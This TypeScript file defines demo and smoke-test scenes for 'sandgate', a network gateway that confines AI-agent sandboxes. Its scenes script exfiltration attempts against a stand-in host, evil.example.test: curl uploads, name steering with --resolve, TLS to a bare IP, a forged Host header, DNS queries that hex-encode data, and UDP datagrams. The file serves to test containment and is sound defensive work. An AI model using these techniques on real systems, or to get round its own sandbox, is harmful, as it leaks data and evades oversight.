/**
 * The demo's scenes, in the order they are shown. A scene is one thing an agent in the sandbox
 * tries, what it saw, and the checks that say whether sandgate behaved as it should: the demo
 * exits non-zero when any check fails, so it doubles as an end-to-end smoke test.
 *
 * Adding a scene is a few lines: push an object onto SCENES. `setup` may extend the sandgate
 * config (allow rules, credentials) and its environment (a secret) before sandgate starts; `run`
 * drives clients in the sandbox through `ctx` and records checks. Everything a scene touches lives
 * inside the demo's own namespaces.
 */
import { existsSync } from 'node:fs';
import { randomBytes } from 'node:crypto';
import type { ExecResult } from './topology.js';
import type { JsonLine } from './json-lines.js';
import type { DemoServer, DemoWorld, ServerSpec } from './world.js';

/** The sandgate config the demo writes (plain JSON; docs/policy.md). */
export interface DemoConfig {
  listen: { port: number; dnsPort: number; control: string };
  tls: { caDir: string };
  upstream: { hosts: Record<string, string>; allowPrivate: string[]; [k: string]: unknown };
  sandboxes: { name: string; interface?: string; cidr?: string; policy: string; user?: string }[];
  policies: Record<string, { mode: 'enforce' | 'report'; allow: Record<string, unknown>[] }>;
  credentials?: Record<string, Record<string, unknown>>;
  [k: string]: unknown;
}

export interface SceneSetup {
  /** Mutable until sandgate starts. */
  readonly config: DemoConfig;
  /** Extra environment for the sandgate process (e.g. a credential's `secret: {env: ...}`). */
  readonly env: Record<string, string>;
  server(node: string): DemoServer;
}

export interface CurlResult extends ExecResult {
  /** HTTP status, 0 when no response arrived (reset, timeout). */
  status: number;
  /** curl's ssl_verify_result: 0 means the server's chain verified against --cacert. */
  verify: number;
  body: string;
  /** The body parsed as a JSON object, when it is one. */
  json: JsonLine | undefined;
}

export interface SceneContext {
  readonly sandbox: { readonly name: string; readonly ns: string; readonly ip: string };
  /** The demo public CA's PEM file (trusted by the sandbox's clients). */
  readonly caFile: string;
  /** The demo's temporary directory (removed at cleanup): room for a scene's own files. */
  readonly dir: string;
  /** The config sandgate runs with (tls.caDir holds its interception CA once it made one). */
  readonly config: Readonly<DemoConfig>;
  /** A fake upstream by topology node name: "api" (listed) or "evil" (not listed). */
  server(node: string): DemoServer;
  /**
   * curl in the sandbox, trusting the demo CA (or `cacert`), with a time limit. Shows `$ curl ARGS` (without
   * those fixed options) and a line for what came back.
   */
  curl(args: string[], opts?: { timeoutMs?: number; quiet?: boolean; cacert?: string }): Promise<CurlResult>;
  /** Any program in the sandbox; `show` is the command as displayed after "$ ". */
  inSandbox(cmd: string, args: string[], opts: { show: string; timeoutMs?: number }): Promise<ExecResult>;
  /** A program in sandgate's host namespace: control probes that do not pass the gate. */
  inHost(cmd: string, args: string[], opts?: { timeoutMs?: number }): Promise<ExecResult>;
  /** An audit decision line written since the scene started that matches; waits up to timeoutMs. */
  audit(pred: (l: JsonLine) => boolean, timeoutMs?: number): Promise<JsonLine | undefined>;
  /** What a server reported since the scene started; `kind` picks "request" or "udp" lines. */
  seen(node: string, kind: 'request' | 'udp'): JsonLine[];
  /** Waits for a server report since the scene started that matches. */
  waitSeen(node: string, pred: (l: JsonLine) => boolean, timeoutMs?: number): Promise<JsonLine | undefined>;
  /** A transcript line: what the agent saw. */
  show(text: string): void;
  /** Records a check; the scene passes when it has at least one and all pass. */
  check(ok: boolean, pass: string, fail?: string): boolean;
  /** Records a part of the scene that could not run here (neither pass nor fail). */
  skip(why: string): void;
  sleep(ms: number): Promise<void>;
}

export interface Scene {
  readonly id: string;
  readonly title: string;
  /** What the agent tries and why it matters: one or two sentences. */
  readonly about: string;
  setup?(s: SceneSetup): void;
  run(ctx: SceneContext): Promise<void>;
}

/* ------------------------------------------------------------------------------------------ */
/* The cast: servers and the policy                                                           */
/* ------------------------------------------------------------------------------------------ */

const BOTH_NAMES = ['api.example.test', 'llm.example.test', 'evil.example.test'];

/**
 * The fake upstreams (.test is reserved for testing, RFC 6761 §6.2). Both certificates cover both
 * names, as a mis-issued certificate would, so which server answers is decided by sandgate's
 * routing alone, never by a TLS failure.
 */
export const SERVERS: ServerSpec[] = [
  { node: 'api', subnet: 2, names: ['api.example.test', 'llm.example.test'], certNames: BOTH_NAMES, listed: true },
  { node: 'evil', subnet: 3, names: ['evil.example.test'], certNames: BOTH_NAMES, listed: false },
];

/** The policy every scene starts from: api.example.test on 443 (TLS) and 80 (plain HTTP), nothing else. */
export function baseConfig(world: DemoWorld): DemoConfig {
  const hosts: Record<string, string> = {};
  for (const s of world.servers.values()) for (const n of s.names) hosts[n] = s.ip;
  const subnet = world.sandbox.ip.replace(/\.\d+$/, '.0/24');
  return {
    // The control socket in the demo's own directory, never the system-wide default.
    listen: { port: 15001, dnsPort: 15053, control: `${world.dir}/control.sock` },
    // sandgate's own interception CA, created on first use; not the demo public CA.
    tls: { caDir: `${world.dir}/sandgate-ca` },
    // The servers live on 10.77.x.2, private addresses sandgate refuses unless listed here.
    // caFile: the demo public CA plays the public roots, so intercepted calls verify the server.
    upstream: { hosts, allowPrivate: ['10.77.0.0/16'], caFile: world.caFile },
    sandboxes: [{ name: world.sandbox.name, interface: world.topo.hostIface(world.sandbox.name), cidr: subnet, policy: 'default', user: 'demo-agent' }],
    policies: { default: { mode: 'enforce', allow: [{ host: 'api.example.test', ports: [443, 80] }] } },
  };
}

/* ------------------------------------------------------------------------------------------ */

const isConn = (l: JsonLine): boolean => l.event === 'conn';
const hasDatagramFrom =
  (ip: string) =>
  (l: JsonLine): boolean =>
    typeof l.udp === 'object' && l.udp !== null && String((l.udp as JsonLine).from).startsWith(`${ip}:`);

/** The demo's credential: the real key exists only in sandgate's environment; the sandbox holds the placeholder. */
const REAL_KEY = `sk-real-${randomBytes(16).toString('hex')}`;
const PLACEHOLDER = 'sk-sandgate-demo-placeholder';

/** Absolute path of dig, if installed (dnsutils; scripts/provision.sh installs it). */
export const DIG = ['/usr/bin/dig', '/bin/dig'].find((p) => existsSync(p));

/** Absolute path of ping, if installed (iputils-ping; scripts/provision.sh installs it). */
export const PING = ['/usr/bin/ping', '/bin/ping'].find((p) => existsSync(p));

function nodeUdpSend(ip: string, port: number, text: string): string {
  // Reports "sent" once the kernel accepted the datagram: it left the sender, wherever it ends up.
  return `const s=require('dgram').createSocket('udp4');s.send(${JSON.stringify(text)},${port},${JSON.stringify(ip)},(e)=>{console.log(e?'error '+e.code:'sent');s.close();});`;
}

function received(ping: ExecResult): number {
  const m = /(\d+) (?:packets )?received/.exec(ping.stdout);
  return m ? Number(m[1]) : 0;
}

export const SCENES: Scene[] = [
  {
    id: 'allowed-call',
    title: 'An allowed API call goes through (HTTPS, not decrypted)',
    about:
      "api.example.test is on the allow list. sandgate reads only the server name (SNI) from the TLS handshake, connects to that name itself and splices the bytes through, so the client still verifies the server's own certificate.",
    async run(ctx) {
      const api = ctx.server('api');
      const r = await ctx.curl([`https://${api.host}/v1/models`]);
      ctx.check(
        r.status === 200 && r.json?.server === 'api',
        `the call succeeded, answered by ${api.host}`,
        `expected HTTP 200 from ${api.host}, got ${r.status ? `HTTP ${r.status} from ${String(r.json?.server ?? 'an unknown server')}` : `curl exit ${r.code}`}`,
      );
      ctx.check(r.verify === 0 && r.status === 200, "curl verified the server's own certificate: nothing decrypted the call");
      const line = await ctx.audit((l) => isConn(l) && l.host === api.host && l.decision === 'allow');
      ctx.check(line !== undefined, 'audit: allowed by rule, SNI passthrough', 'no "allow" audit line for the call');
    },
  },
  {
    id: 'placeholder-key',
    title: 'An agent calls an API with a placeholder key; the real key stays out',
    about:
      "llm.example.test has a credential rule: sandgate terminates TLS with a certificate from its own CA (which the sandbox trusts), checks method and path, swaps the placeholder for the real key, and re-encrypts to the verified server. The key lives only in sandgate's process.",
    setup(s) {
      s.env.DEMO_LLM_KEY = REAL_KEY;
      s.config.credentials = { ...s.config.credentials, llm: { secret: { env: 'DEMO_LLM_KEY' }, placeholder: PLACEHOLDER } };
      s.config.policies.default?.allow.push({ host: 'llm.example.test', inject: 'llm', methods: ['GET', 'POST'], paths: ['/v1/**'] });
    },
    async run(ctx) {
      const cacert = `${ctx.config.tls.caDir}/ca.pem`;
      const url = 'https://llm.example.test/v1/chat/completions';
      const r = await ctx.curl(
        ['-H', `Authorization: Bearer ${PLACEHOLDER}`, '-H', 'content-type: application/json', '--data', '{"model":"demo","messages":[]}', url],
        { cacert },
      );
      ctx.check(
        r.status === 200 && r.json?.server === 'api',
        'the call succeeded through interception',
        `expected HTTP 200, got ${r.status || `curl exit ${r.code}`}`,
      );
      const seen = await ctx.waitSeen('api', (l) => typeof l.request === 'object' && (l.request as JsonLine).path === '/v1/chat/completions', 2000);
      const auth = String(((seen?.request as JsonLine | undefined)?.headers as JsonLine | undefined)?.authorization ?? '');
      ctx.show(`server received: Authorization: ${auth.slice(0, 14)}... (the real key, ${REAL_KEY.length} characters)`);
      ctx.check(auth === `Bearer ${REAL_KEY}`, 'the server received the real key, not the placeholder', `the server received "${auth.slice(0, 20)}..."`);
      ctx.check(
        !r.stdout.includes(REAL_KEY) && !r.stderr.includes(REAL_KEY),
        'nothing the sandbox received contains the real key',
        'the real key reached the sandbox',
      );
      const line = await ctx.audit((l) => l.event === 'http' && l.host === 'llm.example.test' && l.path === '/v1/chat/completions');
      ctx.check(
        line?.credential === 'llm' && !JSON.stringify(line).includes(REAL_KEY),
        'audit: credential "llm" named, its value never written',
        'audit line missing or it carries the key',
      );
      const denied = await ctx.curl(['-X', 'DELETE', 'https://llm.example.test/admin/users'], { cacert });
      ctx.check(
        denied.status === 403 && denied.json?.by === 'sandgate',
        'a method/path outside the rule gets 403 with a reason',
        `expected 403, got ${denied.status || `curl exit ${denied.code}`}`,
      );
    },
  },
  {
    id: 'unlisted-host',
    title: 'A host the policy does not list is cut off',
    about:
      'The agent tries to upload notes to evil.example.test. The sandbox knows its address, but the name is not on the allow list: sandgate reads the ClientHello and answers with a TLS access_denied alert, which curl prints, before a single byte reaches the server.',
    async run(ctx) {
      const evil = ctx.server('evil');
      const r = await ctx.curl(['--data', 'notes=the quarterly numbers', `https://${evil.host}/upload`]);
      ctx.check(
        r.status === 0 && /alert access denied/.test(r.stderr),
        'refused with a TLS alert: "tlsv1 alert access denied"',
        `expected a TLS access_denied alert, got HTTP ${r.status} (${r.stderr.trim()})`,
      );
      const line = await ctx.audit((l) => isConn(l) && l.host === evil.host && l.decision === 'deny');
      ctx.check(line !== undefined, 'audit: denied, with the reason', `no "deny" audit line for ${evil.host}`);
      ctx.check(ctx.seen('evil', 'request').length === 0, `${evil.host} received nothing`, `${evil.host} received a request`);
    },
  },
  {
    id: 'name-steering',
    title: 'A listed name aimed at another address reaches the listed server',
    about:
      "The agent claims api.example.test but dials evil.example.test's address, hoping the gate checks the name and then connects wherever it was sent. sandgate connects to the name as it resolves it, never to the address the sandbox chose. (Both servers hold a certificate for both names here, so only sandgate's routing decides.)",
    async run(ctx) {
      const api = ctx.server('api');
      const evil = ctx.server('evil');
      const r = await ctx.curl(['--resolve', `${api.host}:443:${evil.ip}`, `https://${api.host}/v1/models`]);
      ctx.check(
        r.status === 200 && r.json?.server === 'api',
        `answered by ${api.host}'s server, not by ${evil.ip}`,
        `expected the answer from "api", got ${r.json ? String(r.json.server) : `curl exit ${r.code}`}`,
      );
      ctx.check(ctx.seen('evil', 'request').length === 0, `${evil.host}'s server received nothing`, `${evil.host}'s server received the request`);
      const line = await ctx.audit((l) => isConn(l) && l.host === api.host && l.dst === `${evil.ip}:443`);
      ctx.check(
        line?.upstream === `${api.ip}:443`,
        `audit: dialled ${evil.ip}, sent to ${api.ip}`,
        `audit line missing or sent elsewhere (${String(line?.upstream)})`,
      );
    },
  },
  {
    id: 'ip-literal',
    title: 'TLS to a bare IP address is denied',
    about:
      'The agent skips names altogether: HTTPS straight to an address, certificate checks off (-k). With no server name in the handshake there is nothing to hold against the allow list, so sandgate refuses it with an unrecognized_name alert.',
    async run(ctx) {
      const evil = ctx.server('evil');
      const r = await ctx.curl(['-k', `https://${evil.ip}/upload`]);
      ctx.check(
        r.status === 0 && /unrecognized name/.test(r.stderr),
        'refused with a TLS alert: "tlsv1 unrecognized name"',
        `expected a TLS unrecognized_name alert, got HTTP ${r.status} (${r.stderr.trim()})`,
      );
      const line = await ctx.audit((l) => isConn(l) && l.dst === `${evil.ip}:443` && l.decision === 'deny');
      ctx.check(line?.reason === 'no SNI', 'audit: denied, "no SNI"', `expected a "no SNI" denial, got ${String(line?.reason)}`);
      ctx.check(ctx.seen('evil', 'request').length === 0, `${evil.ip} received nothing`, `${evil.ip} received a request`);
    },
  },
  {
    id: 'forged-host',
    title: 'Plain HTTP with a forged Host header gets a 403',
    about:
      'Plain HTTP to api.example.test is allowed on port 80. The agent connects there but names evil.example.test in the Host header. sandgate decides every request on its Host and answers 403 with a reason an agent can read.',
    async run(ctx) {
      const api = ctx.server('api');
      const evil = ctx.server('evil');
      const r = await ctx.curl(['-H', `Host: ${evil.host}`, `http://${api.host}/upload`]);
      ctx.check(
        r.status === 403 && r.json?.by === 'sandgate',
        'HTTP 403 from sandgate, with a reason',
        `expected a 403 from sandgate, got ${r.status || `curl exit ${r.code}`}`,
      );
      const line = await ctx.audit((l) => l.event === 'http' && l.host === evil.host && l.decision === 'deny');
      ctx.check(line?.status === 403, 'audit: denied, status 403', 'no "deny" http audit line with status 403');
      ctx.check(
        ctx.seen('api', 'request').length + ctx.seen('evil', 'request').length === 0,
        'neither server received the request',
        'a server received the request',
      );
    },
  },
  {
    id: 'dns-exfiltration',
    title: 'DNS: allowed names resolve; an exfiltration query never leaves',
    about:
      "The agent encodes data in a DNS name under a domain it controls and sends the query to an outside resolver address. Every DNS packet from the sandbox, to any address, lands on sandgate's responder: allowed names are answered from sandgate's own resolution, anything else gets NXDOMAIN and is never forwarded.",
    async run(ctx) {
      const evil = ctx.server('evil');
      if (DIG === undefined) {
        ctx.skip('dig is not installed (Debian: apt-get install dnsutils); DNS not shown');
        return;
      }
      const secret = Buffer.from('the quarterly numbers').toString('hex');
      const ok = await ctx.inSandbox(DIG, ['+short', '+time=2', '+tries=1', `@${evil.ip}`, 'llm.example.test'], {
        show: `dig +short @${evil.ip} llm.example.test`,
      });
      ctx.show(`dig: ${ok.stdout.trim() || '(no answer)'}`);
      ctx.check(
        ok.stdout.trim() === ctx.server('api').ip,
        'an allowed name resolves (answered by sandgate, whatever address was asked)',
        `expected ${ctx.server('api').ip}, got "${ok.stdout.trim()}"`,
      );
      const bad = await ctx.inSandbox(DIG, ['+time=2', '+tries=1', `@${evil.ip}`, 'TXT', `${secret}.exfil.evil.example.test`], {
        show: `dig @${evil.ip} TXT ${secret.slice(0, 16)}....exfil.evil.example.test`,
      });
      const status = /status: (\w+)/.exec(bad.stdout)?.[1] ?? `dig exit ${bad.code}`;
      ctx.show(`dig: status ${status}`);
      ctx.check(status === 'NXDOMAIN', 'the exfiltration query got NXDOMAIN', `expected NXDOMAIN, got ${status}`);
      const line = await ctx.audit((l) => l.event === 'dns' && typeof l.host === 'string' && l.host.startsWith(secret));
      ctx.check(line?.decision === 'deny', 'audit: the query was denied (and never forwarded)', 'no "deny" dns audit line for the query');
    },
  },
  {
    id: 'udp-icmp',
    title: 'UDP and ICMP (ping) go nowhere',
    about:
      "Only TCP (through sandgate) and DNS (to sandgate's resolver) leave a sandbox by default. The first packet of any other flow is queued to sandgate, which decides by policy (here: no UDP or ICMP rule) and writes a \"packet\" audit line; the kernel drops it. The same packets sent from sandgate's own namespace do arrive, so the drop is the gate's doing.",
    async run(ctx) {
      const api = ctx.server('api');
      const evil = ctx.server('evil');
      const udp = ctx.inSandbox(process.execPath, ['-e', nodeUdpSend(evil.ip, 9999, 'exfil: the quarterly numbers')], {
        show: `node -e "dgram.send('exfil: ...', 9999, '${evil.ip}')"`,
      });
      const ping = PING ? ctx.inSandbox(PING, ['-n', '-c', '1', '-W', '1', api.ip], { show: `ping -c 1 -W 1 ${api.ip}` }) : undefined;
      const [u, p] = await Promise.all([udp, ping]);
      ctx.show(`node: ${u.stdout.trim() || u.stderr.trim()} (the datagram left the sandbox)`);
      if (p) ctx.show(`ping: ${received(p)} of 1 replies`);

      // Controls from the host namespace: the listener and ICMP work, and the control datagram,
      // sent after the sandbox's, marks the point by which the sandbox's would have arrived.
      const control = await ctx.inHost(process.execPath, ['-e', nodeUdpSend(evil.ip, 9999, 'control')]);
      const arrived = await ctx.waitSeen('evil', (l) => typeof l.udp === 'object' && (l.udp as JsonLine).text === 'control', 2000);
      ctx.check(
        control.stdout.includes('sent') && arrived !== undefined,
        'control: a datagram from the host namespace arrives',
        'control datagram from the host namespace did not arrive',
      );
      ctx.check(
        ctx.seen('evil', 'udp').filter(hasDatagramFrom(ctx.sandbox.ip)).length === 0,
        `the sandbox's datagram never reached ${evil.ip}`,
        `${evil.ip} received the sandbox's datagram`,
      );
      const udpLine = await ctx.audit((l) => l.event === 'packet' && l.proto === 'udp' && l.dst === `${evil.ip}:9999`, 2000);
      if (udpLine)
        ctx.check(
          udpLine.decision === 'deny',
          'audit: the UDP flow was decided and denied ("packet" line)',
          `the UDP flow's audit line says ${String(udpLine.decision)}`,
        );
      else ctx.skip('no "packet" audit line: the netfilter-queue binding is not built here, so the kernel dropped the flow unaudited');
      if (!p || PING === undefined) {
        ctx.skip('ping is not installed (Debian: apt-get install iputils-ping); ICMP not shown');
        return;
      }
      const hostPing = await ctx.inHost(PING, ['-n', '-c', '1', '-W', '1', api.ip], { timeoutMs: 3000 });
      ctx.check(received(hostPing) === 1, 'control: ping from the host namespace is answered', 'control ping from the host namespace got no reply');
      ctx.check(p.code !== 0 && received(p) === 0, "the sandbox's ping got no reply", "the sandbox's ping was answered");
    },
  },
];
